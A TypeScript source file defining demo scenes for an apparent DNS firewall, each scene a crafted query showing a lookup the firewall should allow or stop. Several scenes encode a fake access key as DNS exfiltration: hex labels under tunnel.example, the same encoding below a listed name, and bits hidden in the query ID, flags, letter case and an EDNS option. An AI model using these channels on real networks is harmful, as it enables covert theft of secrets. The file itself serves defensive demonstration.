/** The demo's scenes: what a client tries, and why. */

import { TYPE } from "../../wire/mod.ts";
import type { Crafted } from "./client.ts";

/** One thing that a client tries. */
export interface Scene {
  readonly title: string;
  /** What it means, in a line. */
  readonly story: string;
  readonly query: Crafted;
  /** Whether to show the packets byte by byte. */
  readonly showBytes?: boolean;
}

const TXT = 16;

/** RD and AD, as `dig` sends them. */
const HONEST_FLAGS = 0x0120;

/** What a back door wants to bring home. */
const SECRET = new TextEncoder().encode("key=AKIA4EXAMPLE7:9f31c0d2e8");

function hexLabel(start: number, end: number): string {
  return Array.from(SECRET.subarray(start, end), (byte) => byte.toString(16).padStart(2, "0")).join(
    "",
  );
}

/** One bit of the secret as the case of one letter. */
function secretCase(index: number): boolean {
  return ((SECRET[index >> 3]! >> (index & 7)) & 1) === 1;
}

/** The scenes, in order. */
export const SCENES: readonly Scene[] = [
  {
    title: "A listed name",
    story: "An honest program asks for what it needs.",
    query: { name: "api.example.com", type: TYPE.A, id: 0x1a2b, flags: HONEST_FLAGS },
  },
  {
    title: "A name on no list",
    story: "A back door looks for its master. It hears nothing, not even a refusal.",
    query: { name: "evil.example", type: TYPE.A, id: 0x1a2c, flags: HONEST_FLAGS },
  },
  {
    title: "A tunnel",
    story: "Stolen bytes as labels, the answer as TXT: how DNS tunnels work.",
    query: {
      name: `${hexLabel(0, 8)}.tunnel.example`,
      type: TXT,
      id: 0x1a2d,
      flags: HONEST_FLAGS,
    },
  },
  {
    title: "The same below a listed name",
    story: "A name is listed exactly: what is below it is not.",
    query: {
      name: `${hexLabel(0, 8)}.api.example.com`,
      type: TYPE.A,
      id: 0x1a2e,
      flags: HONEST_FLAGS,
    },
  },
  {
    title: "A type that is not listed",
    story: "The client hears at once that there is no such record, so nothing stalls.",
    query: { name: "api.example.com", type: TXT, id: 0x1a2f, flags: HONEST_FLAGS },
  },
  {
    title: "A secret hidden around a listed name",
    story:
      "In the ID, the flags, the letter case and an EDNS option. fw-dns asks in its own words.",
    query: {
      name: "login.example.com",
      type: TYPE.A,
      id: (SECRET[0]! << 8) | SECRET[1]!,
      flags: 0x0100 | (SECRET[2]! & 0x7f),
      isCapital: secretCase,
      option: SECRET,
    },
    showBytes: true,
  },
];
